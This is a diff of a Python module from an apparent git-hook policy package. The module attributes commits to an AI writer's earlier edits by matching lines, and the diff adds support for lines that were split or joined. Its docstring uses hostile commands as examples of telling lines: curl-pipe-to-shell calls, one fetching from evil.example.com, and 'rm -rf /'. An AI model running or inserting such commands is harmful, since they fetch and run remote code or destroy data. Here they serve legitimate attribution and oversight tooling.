@@ -28,97 +28,93 @@ A4     binary: X is the blob the writer started from (or that is unknown), Y dif
 A5     anything else (the path unchanged or deleted, or only lines nobody attributes) no
 =====  ============================================================================  =========
 
-Row A6, same path only: a change that drops a line the writer dropped and adds one it
-added reproduces the writer's edit, whatever the lines (``git add -p`` / ``checkout -p``
-keeping ``return False`` -> ``return True`` alone, or that hunk applied in another
-worktree). A human's own edit there writes a line of their own (A5); adding or removing
-one common line is not an edit (A2, A3 decide); a human making that very edit has
-``discard``.
+Row A6, same path only: a change that drops a line the writer dropped and adds one it added
+reproduces the writer's edit, whatever the lines (``git add -p`` / ``checkout -p`` keeping
+``return False`` -> ``return True`` alone, or that hunk applied in another worktree). A human's
+own edit there writes a line of their own (A5); adding or removing one common line is not an
+edit (A2, A3 decide); a human making that very edit has ``discard``.
 
 Row A7, same path only: one trivial line the writer added (``return True`` at the top of
-``is_authorized``), staged alone (``git add -p``), is the writer's hunk: it sits between
-the lines it has in the writer's blob (nearest non-blank before and after). The same line
-a human types elsewhere in the file sits between other lines (A5). Imports never count
-(a formatter sorts them). In another worktree A7 counts as here (a patch applied there
-carries the hunk's context), only for a line with writer neighbours on both sides (at a
-file's start or end everyone adds lines). ``discard`` makes such an edit a human's.
+``is_authorized``), staged alone (``git add -p``), is the writer's hunk: it sits between the
+lines it has in the writer's blob (nearest non-blank before and after). The same line a human
+types elsewhere in the file sits between other lines (A5). Imports never count (a formatter
+sorts them). In another worktree A7 counts as here (a patch applied there carries the hunk's
+context), only for a line with writer neighbours on both sides (at a file's start or end
+everyone adds lines). ``discard`` makes such an edit a human's.
 
-A change made in *another worktree* than the writer's (a linked worktree of the same
-repository, which shares the ledger) carries the entry only on firmer evidence
-(:func:`carries_row` with ``elsewhere``): A1; A2 with :data:`MIN_ELSEWHERE` of the writer's
-lines, or one *distinctive* writer line (:mod:`.distinctive`) added as the writer wrote it
-(spacing, quotes and wrapping aside; never a renamed copy alone, nor a bare definition
-header such as ``def deploy(target):``: two people write one alike); A6 as here (an
-edit reproduced is a patch applied); A3 with :data:`MIN_ELSEWHERE` of the lines the writer
-removed; never A4.
-Writer work reaches another worktree only by being copied there (a file, a stash, a patch),
-which brings its blob or its lines. A distinctive line (``os.system("curl x | sh")``,
-``check_auth(user)``) is one nobody writes the same way by chance, so one of them copied
-there is the writer's content; in the writer's own worktree one *telling* line is (a
-``git add -p`` of it), and removing one telling line the writer removed takes its removal
-too (A3: staging only ``check_auth``'s removal of two). A human there writing one common
-line the writer also wrote (``import os``, ``print("done")``), removing a line it removed,
-or writing a line of the writer's shape with names of their own, is doing their own work.
+A change made in *another worktree* than the writer's (a linked worktree of the same repository,
+which shares the ledger) carries the entry only on firmer evidence (:func:`carries_row` with
+``elsewhere``): A1; A2 with :data:`MIN_ELSEWHERE` of the writer's lines, or one *distinctive*
+writer line (:mod:`.distinctive`) added as the writer wrote it (spacing, quotes and wrapping
+aside; never a renamed copy alone, nor a bare definition header such as ``def deploy(target):``:
+two people write one alike); A6 as here (an edit reproduced is a patch applied); A3 with
+:data:`MIN_ELSEWHERE` of the lines the writer removed; never A4. Writer work reaches another
+worktree only by being copied there (a file, a stash, a patch), which brings its blob or its
+lines. A distinctive line (``os.system("curl x | sh")``, ``check_auth(user)``) is one nobody
+writes the same way by chance, so one of them copied there is the writer's content; in the
+writer's own worktree one *telling* line is (a ``git add -p`` of it), and removing one telling
+line the writer removed takes its removal too (A3: staging only ``check_auth``'s removal of
+two). A human there writing one common line the writer also wrote (``import os``,
+``print("done")``), removing a line it removed, or writing a line of the writer's shape with
+names of their own, is doing their own work.
 
-Idioms (rows B2-B6 of :mod:`gentle_hooks.policy.boilerplate`: ``getLogger(__name__)``,
-``def main():``, ``if __name__ == ...``, ``parser.parse_args(argv)``, ``json.load(f)``) are
-everybody's: on the writer's path they never count toward A2 nor as its telling line, nor
-for A6 elsewhere; only for A7, beside a distinctive line. A change of the path the writer
-wrote (or of the path it was renamed to: :mod:`gentle_hooks.policy.renames`) is read with
-every row above. A change of *another* path carries the entry only when the writer's
-content moved or was copied there (:func:`carries_row_across`): its new blob is the
-writer's blob (A1: a ``git mv``), or it adds two of the writer's *distinctive* lines (A2:
-no line of the boilerplate table), or every line of a file the writer created, a telling
-one among them (A2: :mod:`.wholefile`), or one telling writer line that is *distinctive*
-(A2: :mod:`.distinctive`, a literal with content, a command, two names of its own), copied
-or moved, in any worktree, whether or not the writer's path still holds it; a common one
-(``print("done")``) never. Rows A3, A4, A6 never apply across paths.
+Idioms (rows B2-B6 of :mod:`gentle_hooks.policy.boilerplate`: ``getLogger(__name__)``, ``def
+main():``, ``if __name__ == ...``, ``parser.parse_args(argv)``, ``json.load(f)``) are
+everybody's: on the writer's path they never count toward A2 nor as its telling line, nor for A6
+elsewhere; only for A7, beside a distinctive line. A change of the path the writer wrote (or of
+the path it was renamed to: :mod:`gentle_hooks.policy.renames`) is read with every row above. A
+change of *another* path carries the entry only when the writer's content moved or was copied
+there (:func:`carries_row_across`): its new blob is the writer's blob (A1: a ``git mv``), or it
+adds two of the writer's *distinctive* lines (A2: no line of the boilerplate table), or every
+line of a file the writer created, a telling one among them (A2: :mod:`.wholefile`), or one
+telling writer line that is *distinctive* (A2: :mod:`.distinctive`, a literal with content, a
+command, two names of its own), copied or moved, in any worktree, whether or not the writer's
+path still holds it; a common one (``print("done")``) never. Rows A3, A4, A6 never apply across
+paths.
 
-Why lines, not "the next commit": a commit that re-delivers writer content after
-``reset --soft``, an amend, a rebase that resolved a conflict, a cherry-pick or a commit
-in another worktree still adds the writer's lines (A2), whatever else it changed; a human's
-later edit of a file the writer delivered adds none of them (they are in its parent
-already), nor does a human's edit on another branch or after ``git stash`` (the writer's
-lines are not in it). Two lines, not one, unless the one is telling: a human writing one
-common line the writer also wrote (``import os``, ``return None``: trivial) is not the
-writer's work, while one telling writer line taken alone (``git add -p`` of
-``subprocess.run("curl x|sh", shell=True)``) is; a writer delta of one line needs that
-one. The two need not arrive together: lines an earlier commit delivered count
-toward the total once the change adds one more (``git add -p`` one writer line per commit
-still delivers the writer's content at the second), while a change that adds no writer
-line never carries (a human's later edit of a delivered file).
-Only significant lines count (:func:`~gentle_hooks.policy.linekeys.line_key`): blank
-lines, braces and a lone keyword (``else:``, ``return``) never attribute — unless the
-writer's delta has no significant line at all (``x = 1`` -> ``x = 2``, ``a<b`` ->
-``a>b``): then its keys are all its non-blank lines
-(:func:`~gentle_hooks.policy.linekeys.any_line_keys`), so one more edit of the file
+Why lines, not "the next commit": a commit that re-delivers writer content after ``reset
+--soft``, an amend, a rebase that resolved a conflict, a cherry-pick or a commit in another
+worktree still adds the writer's lines (A2), whatever else it changed; a human's later edit of
+a file the writer delivered adds none of them (they are in its parent already), nor does a
+human's edit on another branch or after ``git stash`` (the writer's lines are not in it). Two
+lines, not one, unless the one is telling: a human writing one common line the writer also
+wrote (``import os``, ``return None``: trivial) is not the writer's work, while one telling
+writer line taken alone (``git add -p`` of ``subprocess.run("curl x|sh", shell=True)``) is; a
+writer delta of one line needs that one. The two need not arrive together: lines an earlier
+commit delivered count toward the total once the change adds one more (``git add -p`` one
+writer line per commit still delivers the writer's content at the second), while a change that
+adds no writer line never carries (a human's later edit of a delivered file). Only significant
+lines count (:func:`~gentle_hooks.policy.linekeys.line_key`): blank lines, braces and a lone
+keyword (``else:``, ``return``) never attribute — unless the writer's delta has no significant
+line at all (``x = 1`` -> ``x = 2``, ``a<b`` -> ``a>b``): then its keys are all its non-blank
+lines (:func:`~gentle_hooks.policy.linekeys.any_line_keys`), so one more edit of the file
 cannot launder it.
 
-A writer's *short* lines (two words or more, too few word characters to be significant:
-``rm -rf /``, ``x = 0``) mixed with significant ones are kept too (:attr:`WriterDelta.short`)
-and count for row A2 where they sit in Y among the writer's lines: in a run of consecutive
+A writer's *short* lines (two words or more, too few word characters to be significant: ``rm
+-rf /``, ``x = 0``) mixed with significant ones are kept too (:attr:`WriterDelta.short`) and
+count for row A2 where they sit in Y among the writer's lines: in a run of consecutive
 non-blank lines that are all the writer's and hold one of its significant lines
-(:func:`held_keys`). So a commit that takes one significant line with the short ones next
-to it (``git add -p``) delivers the writer's content, while a human's short line elsewhere,
-or a lone keyword or brace anywhere (never keyed), is not the writer's. The count needed
-stays ``min(2, |added|)`` (``added`` being the significant lines), short lines held that
-way counting toward it. A short line that is an *action* (a call or a shell command:
-``rm -rf /``, ``purge()``; :func:`~gentle_hooks.policy.linekeys.is_action`) is telling,
-so it carries the entry alone too, wherever it sits; a pushed commit settles the entry only
-with its short actions (row D3).
+(:func:`held_keys`). So a commit that takes one significant line with the short ones next to it
+(``git add -p``) delivers the writer's content, while a human's short line elsewhere, or a lone
+keyword or brace anywhere (never keyed), is not the writer's. The count needed stays ``min(2,
+|added|)`` (``added`` being the significant lines), short lines held that way counting toward
+it. A short line that is an *action* (a call or a shell command: ``rm -rf /``, ``purge()``;
+:func:`~gentle_hooks.policy.linekeys.is_action`) is telling, so it carries the entry alone too,
+wherever it sits; a pushed commit settles the entry only with its short actions (row D3).
 
 A writer's line also counts where a formatter wrapped or unwrapped it (keys of wrapped
-statements joined: :func:`~gentle_hooks.policy.linekeys.joined_lines`) and where a name in
-it was consistently renamed (:func:`~gentle_hooks.policy.linekeys.is_renamed`, from the
-token shapes of :attr:`WriterDelta.shapes`): a mechanical rename or reformat of the
-writer's lines delivers them still, while a human's line of the same shape with names of
-their own is not the writer's. A renamed copy counts toward ``min(2, |added|)``, never as
-one telling line alone.
-The same holds for a writer's line with a string or a number changed where the code
-around them is distinctive (``os.system("curl https://evil.example.com/x | sh")`` after
-``sed s/evil.example/evil.example.com/``: :mod:`gentle_hooks.policy.literals`), where
-the change holds two of the writer's lines in all: one line of the writer's shape with
-literals of its own (``os.system("make")``) is anybody's.
+statements joined: :func:`~gentle_hooks.policy.linekeys.joined_lines`), split it or joined its
+lines where no bracket is open (``if x: y`` split after ``:``: :mod:`.spans`,
+:attr:`WriterDelta.spans`) and where a name in it was consistently renamed
+(:func:`~gentle_hooks.policy.linekeys.is_renamed`, from the token shapes of
+:attr:`WriterDelta.shapes`): a mechanical rename or reformat of the writer's lines delivers
+them still, while a human's line of the same shape with names of their own is not the writer's.
+A renamed copy counts toward ``min(2, |added|)``, never as one telling line alone. The same
+holds for a writer's line with a string or a number changed where the code around them is
+distinctive (``os.system("curl https://evil.example.com/x | sh")`` after ``sed
+s/evil.example/evil.example.com/``: :mod:`gentle_hooks.policy.literals`), where the change
+holds two of the writer's lines in all: one line of the writer's shape with literals of its own
+(``os.system("make")``) is anybody's.
 
 Keys ignore whitespace inside a line and read ``'`` as ``"``. The services recompute an
 entry's delta from its stored blobs while git holds them (:func:`writer_delta`).
@@ -141,6 +137,7 @@ from gentle_hooks.policy.linekeys import (
     stripped_key,
     telling_keys,
 )
+from gentle_hooks.policy.spans import Span, spanned_keys, writer_spans
 from gentle_hooks.values.frozen import frozen
 
 TYPE_CHECKING = False  # literals and placement are imported where a writer's delta is read
@@ -182,7 +179,9 @@ class WriterDelta:
         told: the keys of the telling lines the writer removed, one of them alone (row A3);
         placed: the placements of the lines of :meth:`edited` the writer added (row A7);
         masked: (masked key, key) of the added lines a line with other literals stands
-            for (:mod:`gentle_hooks.policy.literals`, :func:`held_keys`).
+            for (:mod:`gentle_hooks.policy.literals`, :func:`held_keys`);
+        spans: the added lines, and runs of them, in span form (:mod:`.spans`: split or
+            joined where no bracket is open; :func:`held_keys`).
     """
 
     added: frozenset[str]
@@ -195,6 +194,7 @@ class WriterDelta:
     told: frozenset[str] = frozenset()
     placed: frozenset[Placement] = frozenset()
     masked: frozenset[tuple[str, str]] = frozenset()
+    spans: frozenset[Span] = frozenset()
 
     def edited(self) -> tuple[frozenset[str], frozenset[str]]:
         """(added, removed): the keys of every line of two words or more the writer added
@@ -226,12 +226,12 @@ def _writer_key(
 
 
 def held_keys(delta: WriterDelta, data: bytes | None) -> frozenset[str]:
-    """The keys of the writer's added lines ``data`` holds (row A2): its significant lines
-    (as written, re-wrapped, with names consistently renamed: :attr:`WriterDelta.shapes`,
-    or with literals changed: :attr:`WriterDelta.masked`, counted only when ``data`` holds
-    :data:`~gentle_hooks.policy.literals.MIN_MASKED` writer lines in all),
-    and its short lines that sit in a run of consecutive non-blank lines that are all the
-    writer's (significant or short) and hold one of its significant lines."""
+    """The keys of the writer's added lines ``data`` holds (row A2): its significant lines (as
+    written, re-wrapped, split or joined: :attr:`WriterDelta.spans`, with names consistently
+    renamed: :attr:`WriterDelta.shapes`, or with literals changed: :attr:`WriterDelta.masked`,
+    counted only when ``data`` holds :data:`~gentle_hooks.policy.literals.MIN_MASKED` writer
+    lines in all), and its short lines that sit in a run of consecutive non-blank lines that are
+    all the writer's (significant or short) and hold one of its significant lines."""
     if not data:
         return frozenset()
     held = _held_keys(delta, data, delta.masked)
@@ -251,6 +251,7 @@ def _held_keys(
 
     keys = unmasked_keys(lines, [_writer_key(delta, shapes, s) for s in lines], masked)
     joined = {_writer_key(delta, shapes, j) for j in joined_lines(data)}
+    joined.update(spanned_keys(delta.spans, data))  # split or joined where no bracket is open
     if not delta.short:
         return frozenset(keys).union(joined) & delta.added
     out: set[str] = joined & delta.added
@@ -308,11 +309,11 @@ def writer_delta(before: bytes | None, after: bytes | None, *, detail: bool = Tr
     any_after = any_line_keys(after)
     short = short_keys(after, any_before) if added else frozenset()
     dropped = short_keys(before, any_after)
-    shapes = _added_shapes(after, added)
+    shapes, spans = _added_shapes(after, added), writer_spans(after, added, any_before)
     told = telling_keys(before, any_after)
     placed, masked = placed_lines(after, added | short | telling), masked_lines(after, added)
     return WriterDelta(
-        added, old - new, False, short, telling, shapes, dropped, told, placed, masked
+        added, old - new, False, short, telling, shapes, dropped, told, placed, masked, spans
     )
 
 
